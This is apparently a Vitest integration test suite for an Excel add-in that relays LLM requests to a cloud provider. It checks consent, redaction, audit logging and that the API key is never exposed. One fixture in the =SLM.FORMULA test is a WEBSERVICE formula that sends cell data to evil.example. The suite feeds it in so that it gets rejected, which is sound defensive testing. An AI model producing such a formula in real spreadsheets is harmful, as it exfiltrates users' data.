import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { mkdtemp, readdir, readFile, rm, stat } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { ask, explain, formula } from "../../functions/functions";
import { SETTINGS_KEY } from "../../src/settings/settings";
import { isCloudError } from "../../src/cloud/cloud-errors";
import { CloudRelayClient, RelayCloudRouter } from "../../src/routing/cloud-relay-client";
import { scoreFormulaComplexity } from "../../src/routing/formula-complexity";
import { configureAddinRuntime, getAddinRuntime } from "../../src/addin/addin-runtime";
import { fetchWithRelayKey, RELAY_KEY_HEADER } from "../../src/routing/relay-key";
import { MemoryStore } from "../../src/settings/key-value-store";
import { explainFormula, explainReport, type ExplainRequest } from "../../src/tasks/explain";
import type { RouteDecision } from "../../src/routing/route-decision";
import { OllamaClient } from "../../src/llm/ollama-client";
import { startAddinServer, type RunningAddinServer } from "../../server/addin-server";
import { CloudService } from "../../server/cloud-service";
import { FakeWorkbook } from "../support/excel-object-model";
import { OllamaProtocolServer } from "../support/ollama-protocol-server";
import { OpenAiProtocolServer } from "../support/openai-protocol-server";

/**
 * The add-in's cloud path end to end: the page-side RelayCloudRouter → our server's /cloud relay
 * (which holds the key, the policy and the audit log) → the official openai SDK → the OpenAI
 * protocol server. Every response the page receives is recorded, to prove the key never comes back.
 */
const KEY = "sk-relay-test-7f3a9c2e5b1d4f6a8e0c";
const SIMPLE = "=SUM(B2:B9)";
const COMPLEX =
  '=LET(rows, FILTER(Data!A2:D500, (Data!B2:B500="North")*(Data!C2:C500>0)), ' +
  "IFERROR(INDEX(rows, MATCH(MAX(INDEX(rows,,3)), INDEX(rows,,3), 0), 4), " +
  'SUMPRODUCT((Data!B2:B500="jane.doe@example.com")*Data!C2:C500)/COUNTIFS(Data!B2:B500,"<>")))';
const EXPLANATION = { summary: "Finds the best northern row.", steps: ["Filter", "Pick the maximum"] };

describe("the /cloud relay of the local server", () => {
  let ollama: OllamaProtocolServer;
  let cloud: OpenAiProtocolServer;
  let home: string;
  let service: CloudService;
  let addin: RunningAddinServer;
  const pageResponses: string[] = [];

  /** fetch as the page does it (with the relay key the server put into the page), keeping the text of every response. */
  const recordingFetch: typeof fetch = async (input, init) => {
    const response = await fetch(input, init);
    const text = await response.clone().text();
    pageResponses.push(text);
    return response;
  };
  const pageFetch: typeof fetch = (input, init) =>
    fetchWithRelayKey(recordingFetch, addin.relayKey, [`${addin.url}/cloud`])(input, init);
  const relay = () => new CloudRelayClient(`${addin.url}/cloud`, pageFetch);

  beforeAll(async () => {
    ollama = await OllamaProtocolServer.start();
    cloud = await OpenAiProtocolServer.start({ apiKey: KEY, models: ["gpt-4o-mini"] });
  });
  afterAll(async () => {
    await ollama.close();
    await cloud.close();
  });
  beforeEach(async () => {
    ollama.reset();
    cloud.reset();
    pageResponses.length = 0;
    home = await mkdtemp(path.join(os.tmpdir(), "slm-relay-"));
    service = await CloudService.open(home, undefined);
    addin = await startAddinServer({ distDir: home, ollamaUrl: ollama.url, port: 0, cloud: service });
    const client = relay();
    await client.configure({
      provider: {
        kind: "openai-compatible",
        model: "gpt-4o-mini",
        baseUrl: `${cloud.url}/v1`,
        timeoutSec: 10,
        maxOutputTokens: 1000,
      },
    });
    await client.setKey(KEY);
  });
  afterEach(async () => {
    await addin.close();
    await rm(home, { recursive: true, force: true });
  });

  /** The explain task as the page runs it, through the relay, as the flat record the pane shows. */
  async function explainViaRelay(request: ExplainRequest, decision?: RouteDecision) {
    const outcome = await explainFormula(
      { llm: new OllamaClient({ baseUrl: ollama.url }), model: "qwen2.5:3b" },
      request,
      { gate: new RelayCloudRouter(relay()), decision },
    );
    return explainReport(outcome);
  }

  /** The add-in's runtime as in Excel: the workbook, Ollama behind the relay, our /cloud relay. */
  function runInAddin(book: FakeWorkbook, store = new MemoryStore()): void {
    configureAddinRuntime({
      store,
      relayBaseUrl: ollama.url,
      cloudBaseUrl: `${addin.url}/cloud`,
      relayKey: addin.relayKey,
      excel: book.run,
    });
  }

  /** A custom-function call from `address` whose arguments come from `parameterAddresses`. */
  function invocationOf(functionName: string, address: string, parameterAddresses: string[]) {
    return { functionName, address, parameterAddresses } as CustomFunctions.CancelableInvocation;
  }

  const explainBook = () =>
    new FakeWorkbook().addSheet("Model", [["", 1]]).setFormula("Model", 0, 1, COMPLEX);

  it("keeps everything local under the default policy 'never', and says why", async () => {
    expect(scoreFormulaComplexity(COMPLEX).score).toBeGreaterThanOrEqual(40);
    ollama.enqueue({ content: JSON.stringify(EXPLANATION) });
    const result = await explainViaRelay({ formula: COMPLEX });
    expect(result).toMatchObject({ status: "explained", source: "local" });
    expect(result.route.reasons.join(" ")).toMatch(/policy "never"/);
    expect(cloud.requests).toHaveLength(0);
    expect(await relay().audit()).toEqual([]);
  });

  it("under 'auto' sends a complex formula to the cloud, redacted and audited, and answers a simple one locally", async () => {
    await relay().configure({ policy: { mode: "auto" } });
    cloud.enqueue({ value: { ...EXPLANATION, summary: "Sums where the buyer is [EMAIL_1]." } });
    const complex = await explainViaRelay({ formula: COMPLEX, cell: "Model!F12" });
    expect(complex).toMatchObject({
      status: "explained",
      source: "cloud",
      route: { trigger: "complex-formula" },
    });
    if (complex.status !== "explained") throw new Error("unreachable");
    // The placeholder in the answer is restored on the way back; the address never left.
    expect(complex.summary).toBe("Sums where the buyer is jane.doe@example.com.");
    expect(cloud.requests.map((request) => request.rawBody).join("")).not.toContain("jane.doe@example.com");

    ollama.enqueue({ content: JSON.stringify({ summary: "Adds B2:B9.", steps: [] }) });
    const simple = await explainViaRelay({ formula: SIMPLE });
    expect(simple).toMatchObject({ status: "explained", source: "local" });
    expect(cloud.requests).toHaveLength(1);

    const audit = await relay().audit();
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({
      task: "explain",
      trigger: "complex-formula",
      result: { outcome: "ok" },
    });
    const usage = await relay().usageToday();
    expect(usage.cloud.requests).toBe(1);
    expect(usage.local.requests).toBe(1);
  });

  it("under 'ask' returns the exact redacted payload for consent and sends only after approval", async () => {
    await relay().configure({ policy: { mode: "ask" } });
    const asked = await explainViaRelay({ formula: COMPLEX });
    if (asked.status !== "needs-consent") throw new Error(`expected consent, got ${asked.status}`);
    expect(asked.consent).toMatchObject({ provider: expect.any(String), model: "gpt-4o-mini" });
    const shown = JSON.stringify(asked.consent.payload);
    expect(shown).not.toContain("jane.doe@example.com");
    expect(shown).toContain("[EMAIL_1]");
    expect(cloud.requests).toHaveLength(0);

    cloud.enqueue({ value: EXPLANATION });
    const router = new RelayCloudRouter(relay());
    const approved = await router.approve(asked.consent.ticket);
    const answer = await explainViaRelay({ formula: COMPLEX }, approved);
    expect(answer).toMatchObject({ status: "explained", source: "cloud" });
    // What was shown is what was sent.
    const sent = cloud.requests[0]!.body as { messages: Array<{ content: string }> };
    expect(sent.messages.map((message) => message.content)).toEqual(
      asked.consent.payload.map((message) => message.content),
    );
  });

  it("refuses a consent approved after the provider was changed in the settings, and sends nothing", async () => {
    await relay().configure({ policy: { mode: "ask" } });
    const asked = await explainViaRelay({ formula: COMPLEX });
    if (asked.status !== "needs-consent") throw new Error(`expected consent, got ${asked.status}`);
    expect(asked.consent.model).toBe("gpt-4o-mini");
    await relay().configure({
      provider: {
        kind: "openai-compatible",
        model: "gpt-4o",
        baseUrl: `${cloud.url}/v1`,
        timeoutSec: 10,
        maxOutputTokens: 1000,
      },
    });
    const failure = await new RelayCloudRouter(relay())
      .approve(asked.consent.ticket)
      .catch((error: unknown) => error);
    expect(isCloudError(failure, "not-allowed")).toBe(true);
    expect((failure as Error).message).toMatch(/\(gpt-4o-mini\), but the cloud provider is now .*\(gpt-4o\)/);
    expect(cloud.requests).toHaveLength(0);
    expect((await relay().audit()).filter((entry) => entry.task === "explain")).toEqual([]);
  });

  it("never returns the key to the page, nor writes it anywhere but the key file (0600)", async () => {
    await relay().configure({ policy: { mode: "auto" } });
    cloud.enqueue({ value: EXPLANATION }, { status: 401 });
    await explainViaRelay({ formula: COMPLEX });
    // A provider error travels back as a typed error with a message, without the key.
    const failure = await explainViaRelay({ formula: COMPLEX }).catch((error: unknown) => error);
    expect(isCloudError(failure, "auth")).toBe(true);
    const status = await relay().status();
    expect(status).toMatchObject({ keySet: true, keyFrom: "file" });
    await relay().usageToday();
    await relay().audit();

    expect(pageResponses.length).toBeGreaterThan(8);
    for (const text of pageResponses) expect(text).not.toContain(KEY);
    const keyFile = path.join(home, "cloud-key");
    expect((await stat(keyFile)).mode & 0o777).toBe(0o600);
    for (const file of await readdir(home)) {
      if (file === "cloud-key") continue;
      expect(await readFile(path.join(home, file), "utf8"), file).not.toContain(KEY);
    }
    // The key is only in the Authorization header of requests to the provider.
    expect(cloud.requests.every((request) => !request.rawBody.includes(KEY))).toBe(true);
  });

  it("refuses pages from another origin and explains malformed requests", async () => {
    const key = { [RELAY_KEY_HEADER]: addin.relayKey };
    const foreign = await fetch(`${addin.url}/cloud/status`, {
      headers: { ...key, origin: "https://evil.example" },
    });
    expect(foreign.status).toBe(403);
    const bad = await fetch(`${addin.url}/cloud/route`, {
      method: "POST",
      headers: key,
      body: '{"task":"explain"}',
    });
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: string }).error).toMatch(/messages/);
    const badConfig = await fetch(`${addin.url}/cloud/config`, {
      method: "PUT",
      headers: key,
      body: JSON.stringify({ policy: { mode: "sometimes" } }),
    });
    expect(badConfig.status).toBe(400);
    expect((await relay().status()).policy.mode).toBe("never");
  });

  it("=SLM.EXPLAIN in 'ask' mode shows #N/A, queues the request, and answers from the cloud once approved", async () => {
    await relay().configure({ policy: { mode: "ask" } });
    const book = explainBook();
    runInAddin(book);
    const invocation = invocationOf("EXPLAIN", "Model!C1", ["Model!B1"]);

    await expect(explain(1, invocation)).rejects.toMatchObject({
      code: "#N/A",
      message: expect.stringMatching(/needs approval.*open the SLM assistant/i),
    });
    // Recalculating while it waits does not queue it twice.
    await expect(explain(1, invocation)).rejects.toMatchObject({ code: "#N/A" });
    const runtime = await getAddinRuntime();
    const pending = runtime.consents.list();
    expect(pending).toHaveLength(1);
    expect(pending[0]).toMatchObject({ task: "explain", cell: "Model!C1", subject: COMPLEX });
    expect(cloud.requests).toHaveLength(0);

    cloud.enqueue({ value: EXPLANATION });
    await runtime.consents.settle(pending[0]!.id, true);
    // The waiting cell is recalculated so it can pick the answer up.
    expect(book.calculations).toContainEqual(expect.objectContaining({ scope: "range" }));
    expect(await explain(1, invocation)).toBe("Finds the best northern row. (cloud: gpt-4o-mini)");
    expect(runtime.consents.list()).toHaveLength(0);
  });

  it("a declined request is answered by the local model instead", async () => {
    await relay().configure({ policy: { mode: "ask" } });
    const book = explainBook();
    runInAddin(book);
    const invocation = invocationOf("EXPLAIN", "Model!C1", ["Model!B1"]);
    await expect(explain(1, invocation)).rejects.toMatchObject({ code: "#N/A" });
    const runtime = await getAddinRuntime();
    await runtime.consents.settle(runtime.consents.list()[0]!.id, false);
    ollama.enqueue({ content: JSON.stringify({ summary: "Picks a row.", steps: [] }) });
    expect(await explain(1, invocation)).toBe("Picks a row. (local: qwen2.5:3b)");
    expect(cloud.requests).toHaveLength(0);
  });

  it("=SLM.FORMULA escalates when no local formula is verified: queued in 'ask' mode, proven once approved", async () => {
    await relay().configure({ policy: { mode: "ask" } });
    const book = new FakeWorkbook().addSheet("Sales", [
      ["Region", "Revenue"],
      ["West", 100],
      ["East", 50],
      ["West", 25],
    ]);
    runInAddin(book);
    const invocation = invocationOf("FORMULA", "Sales!D1", ["", "Sales!A1:B4"]);
    const evil = {
      content: JSON.stringify({ kind: "free_form", formula: '=WEBSERVICE("http://evil.example/?d="&A2)' }),
    };
    ollama.enqueue(evil, evil, evil);
    await expect(formula("West revenue", [[]], invocation)).rejects.toMatchObject({ code: "#N/A" });
    const runtime = await getAddinRuntime();
    const [waiting] = runtime.consents.list();
    expect(waiting).toMatchObject({ task: "formula", cell: "Sales!D1", subject: "West revenue" });
    expect(JSON.stringify(waiting!.consent.payload)).toContain("Region");

    cloud.enqueue({
      value: {
        answer: {
          kind: "aggregate",
          function: "sum",
          valueColumn: "Revenue",
          criteria: [{ column: "Region", operator: "equals", value: "West" }],
        },
      },
    });
    await runtime.consents.settle(waiting!.id, true);
    const answer = await formula("West revenue", [[]], invocation);
    expect(answer).toMatch(/^=SUMIFS\(/);
    expect(cloud.requests).toHaveLength(1);
  });

  describe("=SLM.ASK over a range larger than the local model's context", () => {
    const rows = [
      ["Customer", "Region", "Notes"],
      ...Array.from({ length: 300 }, (_, i) => [
        `Customer ${i + 1}`,
        ["North", "South", "East"][i % 3]!,
        `Order ${i + 1}: asked for a refund after the delivery was late, contact ops${i}@example.com`,
      ]),
    ];
    const invocation = invocationOf("ASK", "Data!F1", ["", "Data!A1:C301"]);

    async function runtimeWithSmallContext() {
      const store = new MemoryStore();
      // A 1,024-token local window: the 300 rows (thousands of tokens) do not fit.
      await store.setItem(SETTINGS_KEY, JSON.stringify({ numCtx: 1024 }));
      runInAddin(new FakeWorkbook(), store);
    }

    it("goes to the cloud model whole under 'auto', redacted, and says so in the cell", async () => {
      await relay().configure({ policy: { mode: "auto" } });
      await runtimeWithSmallContext();
      cloud.enqueue({ value: { answer: "Mostly late-delivery refunds." } });
      expect(await ask("What do the notes say?", rows, invocation)).toBe(
        "Mostly late-delivery refunds. (cloud: gpt-4o-mini)",
      );
      const sent = cloud.requests[0]!.rawBody;
      expect(sent).toContain("Order 300");
      expect(sent).not.toMatch(/ops\d+@example\.com/);
      expect(ollama.requests.filter((request) => request.path === "/api/chat")).toHaveLength(0);
      const [entry] = await relay().audit();
      expect(entry).toMatchObject({ task: "ask", trigger: "context-overflow" });
    });

    it("stays local with the part that fits under 'never'", async () => {
      await runtimeWithSmallContext();
      ollama.enqueue({ content: JSON.stringify({ answer: "Refund requests." }) });
      expect(await ask("What do the notes say?", rows, invocation)).toBe("Refund requests.");
      expect(cloud.requests).toHaveLength(0);
    });
  });
});
